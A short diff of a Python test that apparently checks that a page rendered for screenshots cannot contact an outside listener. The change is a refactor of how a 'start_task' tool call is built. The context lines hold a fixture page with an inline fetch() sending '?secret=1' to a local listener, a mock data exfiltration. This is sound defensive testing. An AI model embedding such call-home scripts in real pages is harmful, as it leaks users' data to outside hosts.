@@ -332,10 +332,7 @@ async def test_a_screenshot_page_cannot_call_home(bot: BotHarness, model: RoleSc
         f"<h1>Portfolio</h1><img src='http://127.0.0.1:{listener.port}/img.png'>"
         f"<script>fetch('http://127.0.0.1:{listener.port}/?secret=1').catch(() => {{}})</script>"
     )
-    work = claude_says.tool_use(
-        "start_task",
-        {"workspace": "group-therapy", "worker": "frontend", "instructions": "Build a page.", "background": True},
-    )
+    work = start_task("group-therapy", "Build a page.", worker="frontend")
     model.add("orchestrator", work, claude_says.text("ok"))
     model.add(
         "frontend",
